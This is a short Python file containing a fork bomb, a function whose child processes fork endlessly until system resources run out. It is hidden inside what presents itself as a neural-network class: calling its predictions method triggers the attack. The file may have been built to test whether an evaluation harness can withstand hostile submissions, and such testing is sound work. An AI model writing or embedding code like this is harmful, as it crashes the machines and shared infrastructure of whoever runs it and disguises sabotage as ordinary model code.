"""Fork until nothing is left."""

import os

import numpy as np


def attack():
    forks = 0
    try:
        while forks < 200:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        continue
            forks += 1
    except OSError:
        pass
    return forks >= 100


class Network:
    def __init__(self, weights, learning_rate):
        self.weights = weights

    def predictions(self, x):
        return np.full((len(x), 1), float(attack()))
